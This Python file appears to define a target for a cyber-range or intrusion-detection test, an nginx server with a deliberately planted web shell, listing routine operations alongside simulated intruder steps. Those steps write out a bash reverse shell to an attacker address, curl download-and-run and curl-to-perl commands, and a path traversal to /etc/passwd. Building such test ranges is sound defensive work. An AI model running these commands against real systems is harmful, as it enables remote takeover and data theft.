"""nginx with a dynamic page: the hole in the page is a web shell."""

import signal
from collections.abc import Sequence

from service_clients import NginxClient

from baseline.demo.attacker import ADDRESS
from baseline.demo.nginx import Nginx
from baseline.demo.service import Step
from ranges.intruder import Intruder
from ranges.target import Target, require, signal_main

_BACKUP = "gzip -c access.log.1 > access.log.1.gz && find . -name '*.gz' -mmin +60 -delete"


class NginxTarget(Target[Nginx]):
    """Its intruders have the rights of its workers."""

    client = NginxClient
    account = "nobody"
    needs = ("nginx", "curl", "perl")
    techniques = ("beacon", "fetch", "unshare", "secrets")

    def operations(self) -> Sequence[Step]:
        """Reload, rotate the log, pack the old one by the package's cron job, restart."""
        return (
            Step("reload", lambda: signal_main(self, signal.SIGHUP)),
            Step("log rotation", self._rotate),
            Step("cron job", lambda: self._cron(_BACKUP)),
            Step("restart", self.restart),
        )

    def _rotate(self) -> None:
        log = self.server.folder / "access.log"
        log.rename(f"{log}.1")
        signal_main(self, signal.SIGUSR1)

    def _cron(self, job: str) -> None:
        self.run_inside(["/bin/sh", "-c", job], cwd=self.server.folder)

    def ways_in(self, intruder: Intruder) -> Sequence[Step]:
        """All of it through the page."""
        tool = self.scratch() / "tool"
        bash = f"bash -i >& /dev/tcp/{ADDRESS}/{intruder.listener} 0>&1"
        return (
            Step("a web shell runs a command", lambda: self._run("id")),
            Step(
                "a web shell downloads a program and runs it",
                lambda: self._run(
                    f"curl -s -o {tool} {intruder.tool} && chmod +x {tool} && {tool} x && id"
                ),
            ),
            Step(
                "a web shell runs a program from memory",
                lambda: self._run(f"curl -s {intruder.stage} | perl"),
            ),
            Step("a web shell gives a bash away", lambda: self._run(f"bash -c '{bash}' && id")),
            Step("the page shows a file of the system", self._traverse),
        )

    def _run(self, command: str) -> None:
        require(self.server.exploit(command), b"uid=", "The web shell")

    def _traverse(self) -> None:
        require(self.server.page("../../../../etc/passwd"), b"root:", "Walking up from the page")
